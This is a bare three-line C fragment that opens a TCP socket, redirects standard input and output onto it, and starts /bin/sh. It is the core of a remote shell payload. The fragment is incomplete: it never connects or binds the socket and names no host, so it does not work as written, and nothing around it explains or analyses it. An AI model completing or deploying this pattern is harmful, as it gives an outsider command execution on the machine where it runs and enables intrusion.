int s = socket(AF_INET, SOCK_STREAM, 0);
dup2(s, 0); dup2(s, 1);
execl("/bin/sh", "sh", (char *)0);
